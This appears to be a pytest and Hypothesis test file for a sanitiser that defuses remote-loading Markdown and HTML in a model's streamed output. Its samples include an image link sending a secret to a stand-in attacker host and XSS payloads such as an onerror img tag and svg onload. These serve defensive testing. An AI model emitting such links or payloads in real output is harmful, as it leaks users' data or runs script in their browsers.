"""Nothing in a model's Markdown loads by being shown, in however many pieces it comes."""

from __future__ import annotations

import re

import pytest
from hypothesis import given
from hypothesis import strategies as st

from eightgentc_ai.domain.neutral_markdown import NeutralMarkdown, neutral, neutral_beginning

LOADS = {
    "![x](https://evil.example/?q=secret)": "[x](https://evil.example/?q=secret)",
    "a![x](//evil.example/a.png)": "a[x](//evil.example/a.png)",
    "!![x](https://evil.example)": "[x](https://evil.example)",
    "![x][1]\n\n[1]: https://evil.example": "[x][1]\n\n[1]: https://evil.example",
    "\\![x](u)": "\\[x](u)",
    "\\\\![x](u)": "\\\\[x](u)",
    "[![x](a)](b)": "[[x](a)](b)",
    '<img src="https://evil.example">': '&lt;img src="https://evil.example">',
    "<IMG/SRC=x onerror=alert(1)>": "&lt;IMG/SRC=x onerror=alert(1)>",
    "<iframe src=x></iframe>": "&lt;iframe src=x>&lt;/iframe>",
    "<scr<script>ipt>": "<scr&lt;script>ipt>",
    "<svg onload=x>": "&lt;svg onload=x>",
    "<\nimg": "<\nimg",
    "```\n```\n<img>": "```\n```\n&lt;img>",
    "``` a`b\n<img>": "``` a`b\n&lt;img>",
    "```\n~~~\n```\n<img>": "```\n~~~\n```\n&lt;img>",
    "- a\n  ```\n<img>": "- a\n  ```\n&lt;img>",
    "> ```\n![x](u)": "> ```\n[x](u)",
    "<!--\n\n```\n--> ![x](u)": "<!--\n\n```\n--> [x](u)",
    "<div>\n```\n\n![x](u)": "<div>\n```\n\n[x](u)",
    "`![x](u)`": "`[x](u)`",
}
STAYS = [
    "Great! [Read on](https://example.org)",
    "We earn < 5 % and > 3 %.",
    "a <b>bold</b> word<br>and a line",
    "<https://example.org>",
    "1 <imgur> 2",
    "Wow!!!",
    "if a<b and c>d",
    "A page:\n```html\n<form><img src=x>![x](u)\n```\nDone.",
    "~~~\n<img src=x>\n~~~",
    "````\n```\n<img src=x>\n```\n````",
    "<https://example.org>\n```\n<img>\n",
]
BITS = [
    "!",
    "[",
    "]",
    "(",
    "<",
    "/",
    "i",
    "m",
    "g",
    "s",
    "v",
    " ",
    "\\",
    "img",
    "![",
    "<img",
    "template",
    "x" * 12,
    "\n",
    "```",
    "~~~",
    "`",
    "<!--",
]
PIECES = st.lists(st.sampled_from(BITS)).map("".join)


@pytest.mark.parametrize(("text", "made"), LOADS.items())
def test_what_would_load_is_made_a_link_or_text(text: str, made: str) -> None:
    assert neutral(text) == made


@pytest.mark.parametrize("text", STAYS)
def test_what_loads_nothing_stays_as_it_is(text: str) -> None:
    assert neutral(text) == text


@given(st.lists(PIECES))
def test_pieces_give_the_same_as_the_whole(pieces: list[str]) -> None:
    stream = NeutralMarkdown()

    made = "".join([stream.take(piece) for piece in pieces] + [stream.end()])

    assert made == neutral("".join(pieces))
    assert not re.search(r"!\[|<img\b", made) or re.search(r"^(```|~~~)", made, re.MULTILINE)
    assert neutral(made) == made


@given(PIECES, PIECES)
def test_the_beginning_of_a_text_stays_when_it_grows(text: str, more: str) -> None:
    assert neutral_beginning(text + more).startswith(neutral_beginning(text))
